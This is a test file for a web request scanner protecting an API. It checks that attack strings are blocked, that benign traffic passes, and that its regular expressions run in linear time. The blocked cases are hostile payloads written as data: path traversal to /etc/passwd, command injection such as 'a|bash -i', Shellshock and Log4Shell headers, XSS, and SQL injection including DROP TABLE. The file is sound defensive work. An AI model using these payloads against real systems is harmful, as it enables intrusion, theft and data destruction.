import * as fc from "fast-check";
import { describe, expect, test } from "vitest";
import { maxScannedCharacters } from "./evasion.ts";
import type { Place } from "./rule.ts";
import { rules, scanHeader, scanPath, scanQuery } from "./scan.ts";

describe("blocked, by family", () => {
  test.each([
    ["930", "/v1/files/..%2f..%2fetc%2fpasswd"],
    ["930", "/.git/config"],
    ["930", "/v1/conversations/a/.env"],
    ["941", "/v1/conversations/a/items/%3Cscript%3E"],
    ["941", "/v1/conversations?q=%3Cscript%3E"],
    ["930", "/v1/files?name=....//....//etc/shadow"],
    ["930", "/v1/files?name=%252e%252e%252fetc%252fpasswd"],
    ["930", "/v1/x?u=php://filter/convert.base64-encode/resource=index"],
    ["932", "/v1/x?a=;cat%20/etc/hostname"],
    ["932", "/v1/x?a=1%7Cwhoami"],
    ["932", "/v1/x?a=$(id)"],
    ["932", "/v1/x?a=1;sort%20-o%20/tmp/x"],
    ["932", "/v1/x?a=1%20%26%20kill%20-9%201"],
    ["932", "/v1/x?a=1;%20time%20whoami"],
    ["932", "/v1/x?a=1;more"],
    ["932", "/v1/x?a=;c''url%20http://a.example"],
    ["932", "/v1/x?a=powershell%20-enc%20AAAA"],
    ["941", "/v1/x?q=%3Cscript%3Ealert(1)%3C/script%3E"],
    ["941", "/v1/x?q=%253Cimg%2520src=x%2520onerror=alert(1)%253E"],
    ["941", "/v1/x?q=java%0ascript:alert(1)"],
    ["942", "/v1/x?id=1'%20OR%20'1'='1"],
    ["942", "/v1/x?id=1%20UNION/**/SELECT%20password%20FROM%20users"],
    ["942", "/v1/x?id=1;DROP%20TABLE%20users"],
    ["942", "/v1/x?id=1)%20AND%20SLEEP(5)"],
    ["942", "/v1/x?name[$ne]=x"],
  ])("%s: %s", (family, target) => {
    const [path = "", query = ""] = target.split("?");
    const finding = scanPath(path) ?? scanQuery(query);
    expect(finding?.rule.slice(0, 3)).toBe(family);
  });

  test.each<[string, Place, string]>([
    ["932", "user-agent", "() { :; }; /bin/bash -c 'id'"],
    ["932", "user-agent", "<?php system('id'); ?>"],
    ["941", "referer", "https://a.example/?q=<script>alert(1)</script>"],
    ["941", "cookie", "a=%3Cscript%3Ealert(1)%3C%2Fscript%3E"],
    ["942", "user-agent", "x' and sleep(5) and 'a'='a"],
    ["942", "cookie", "id=1' or '1'='1"],
    ["932", "file-name", "shell.php"],
    ["932", "header", "${jndi:ldap://a.example/x}"],
    ["932", "header", "a;cat /etc/hosts"],
    ["932", "header", "a|bash -i"],
    ["932", "cookie", "a=1|kill -9 1"],
  ])("%s in %s: %s", (family, place, value) => {
    expect(scanHeader(value, place)?.rule.slice(0, 3)).toBe(family);
  });
});

/** What honest clients send. A false alarm here is a customer's outage. */
describe("let through", () => {
  test.each([
    "/v1/chat/completions",
    "/v1/models/meta-llama%2FLlama-3.1-8B-Instruct",
    "/v1/models/gpt-4o-mini-2024-07-18",
    "/v1/responses/resp_68a?stream=true&starting_after=42",
    "/v1/responses/resp_1?include[]=file_search_call.results&include%5B%5D=message.input_image.image_url",
    "/v1/conversations/select%20a%20colour%20from%20the%20list/items",
    "/v1/conversations/O'Brien%20and%20sons/items?limit=20&order=desc",
    "/v1/conversations/rock%20&%20roll/items",
    "/v1/vector_stores/vs_1/files?filter=in_progress&before=file-abc",
    "/v1/usage?start=2026-10-01T00:00:00Z&end=2026-11-01T00:00:00%2B02:00",
    "/v1/conversations?q=if%20not%20now,%20when%3F",
    "/v1/conversations?q=drop%20me%20a%20line;%20time%20is%20short",
    "/v1/conversations?q=C%2B%2B%20%3C%20Rust%20%3E%20Go",
    "/v1/conversations?q=price%20%3C%20100%20%26%20size%20%3E%205",
    "/v1/conversations?q=what%20is%20the%20union%20of%20two%20sets",
    "/v1/conversations?q=caf%C3%A9%20(1319)%20in%20Ha%C3%9Felt%20(1599)",
    "/v1/conversations?q=it's%20on%20sale%20or%20isn't%20it",
    // Words that are commands, too, as names, titles and campaigns have them.
    "/v1/conversations/Shoes%20%26%20more/items",
    "/v1/conversations/Dogs%20%26%20Cat%3B%20Time%20%26%20Date",
    "/?utm_campaign=Parts%20%26%20Service%202026&utm_content=food+%26+more!",
    "/?utm_campaign=Home%20%7C%20Service%20%7C%20Acme&q=find+%26+replace",
    "/?q=less%20%26%20more%20-%20a%20story;%20cut%20%26%20sort&t=Docker%20%7C%20git",
    "/v1/conversations?q=red%2C%20white%20%26%20top;%20head%20%26%20tail",
    "/assets/index-B1c2D3e4.js",
    "/openapi-explorer.min.js",
    "/.well-known/security.txt",
  ])("%s", (target) => {
    const [path = "", query = ""] = target.split("?");
    expect(scanPath(path) ?? scanQuery(query)).toBeNull();
  });

  test.each<[Place, string]>([
    [
      "user-agent",
      "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36",
    ],
    [
      "user-agent",
      "Mozilla/5.0 (iPhone; CPU iPhone OS 18_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.0 Mobile/15E148 Safari/604.1",
    ],
    ["user-agent", "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0"],
    ["user-agent", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"],
    ["user-agent", "OpenAI/JS 7.57.0"],
    ["user-agent", "AsyncOpenAI/Python 1.54.3"],
    ["user-agent", "python-requests/2.32.3"],
    ["user-agent", "curl/8.9.1"],
    ["user-agent", "ansible-httpget"],
    ["user-agent", "Go-http-client/2.0"],
    ["user-agent", "okhttp/4.12.0 (Linux; Android 14) MyApp/1.2 (build 34; debug)"],
    ["user-agent", "git/2.46.0 (Apple Git-148)"],
    ["referer", "https://app.example.com/dashboard?action=edit&id=123&only=mine#section=on"],
    ["referer", "https://www.google.com/search?q=select+a+model+from+hugging+face&hl=en&who=me"],
    ["referer", "https://mail.example.com/u/0/?tab=rm&ogbl=1&cat=news&id=7"],
    ["cookie", 'session=a1b2c3; theme=dark; _ga=GA1.2.123.456; csrf="x+y/z=="; opts={"a":1,"b":[2]}'],
    [
      "cookie",
      "consent=%7B%22ads%22%3Afalse%2C%22at%22%3A%222026-10-01T00%3A00%3A00Z%22%7D; cf_clearance=abc.def-1730-1.2",
    ],
    ["cookie", "gpv_pn=home%20%7C%20service; s_cc=true; last=Docs%20%7C%20node"],
    ["user-agent", "ExampleSDK/1.4 (linux;x64;node)"],
    ["header", "cron|node"],
    ["header", "os=linux;runtime=bun;service"],
    ["header", "gzip, deflate, br, zstd"],
    ["header", '"Chromium";v="130", "Google Chrome";v="130", "Not?A_Brand";v="99"'],
    ["header", "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW"],
    ["header", "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01"],
    ["header", '{"scheme":"https"}'],
    ["header", 'W/"33a64df5", "abc"'],
    ["header", 'for="[2001:db8::1]:4711";proto=https;by=203.0.113.43'],
    ["file-name", "report-2026.final.pdf"],
  ])("%s: %s", (place, value) => {
    expect(scanHeader(value, place)).toBeNull();
  });

  test("whatever its owner calls a conversation: as text it was taken from a body, and is read as nothing", () => {
    const names = [
      "system prompt (v2)",
      "select all",
      "2 or more (any)",
      ".drafts",
      "auth0|id",
      "${x}",
      "' or 1=1",
    ];
    fc.assert(
      fc.property(
        fc.oneof(fc.constantFrom(...names), fc.string({ minLength: 1, unit: "grapheme" })),
        (name) => {
          expect(scanPath(`/v1/conversations/${encodeURIComponent(name)}/items`)).toBeNull();
        },
      ),
    );
  });

  test("any text of words, digits and dashes", () => {
    fc.assert(
      fc.property(fc.stringMatching(/^[\w-]{0,60}$/), (text) => {
        expect(scanPath(`/v1/conversations/${text}/items`)).toBeNull();
        expect(scanQuery(`after=${text}&limit=20`)).toBeNull();
      }),
    );
  });
});

describe("patterns are linear", () => {
  /** Group nesting of unbounded repetitions: `(a+)+` is 2, and exponential in a backtracking engine. */
  function starHeight(source: string): number {
    const heights: number[] = [0];
    let last = 0;
    for (let at = 0; at < source.length; at += 1) {
      const character = source[at];
      if (character === "\\") at += 1;
      else if (character === "[") {
        while (source[at] !== "]") at += source[at] === "\\" ? 2 : 1;
        last = 0;
        continue;
      }
      if (character === "(") heights.push(0);
      else if (character === ")") {
        last = heights.pop() ?? 0;
        heights.push(Math.max(heights.pop() ?? 0, last));
        continue;
      } else if (character === "*" || character === "+" || /^\{\d*,\}/.test(source.slice(at))) {
        heights.push(Math.max(heights.pop() ?? 0, last + 1));
      }
      last = 0;
    }
    return Math.max(...heights);
  }

  test.each(rules.map((rule) => [rule.id, rule.pattern] as const))("%s", (_, pattern) => {
    expect(starHeight(pattern.source)).toBeLessThanOrEqual(1);
    expect(pattern.source).not.toMatch(/\\[1-9]|\(\?<[=!]/);
    expect(pattern.flags).toBe("");
  });

  test("the longest hostile texts come to an end", () => {
    const seeds = [
      "a",
      "'",
      " ",
      "(",
      "select ",
      "<a ",
      "../",
      "; ",
      "$(",
      "%%",
      "if ",
      "for ",
      "/*",
      "[",
      "\\",
      "or 1",
      "on",
    ];
    for (const seed of seeds) {
      const text = seed.repeat(Math.ceil(maxScannedCharacters / seed.length));
      for (const place of ["query", "header"] as const)
        expect(() => (place === "query" ? scanQuery(text) : scanHeader(text, place))).not.toThrow();
    }
  });

  test("arbitrary text never throws", () => {
    fc.assert(
      fc.property(fc.string({ unit: "binary", maxLength: 300 }), (text) => {
        scanPath(text);
        scanQuery(text);
        scanHeader(text, "cookie");
      }),
    );
  });
});
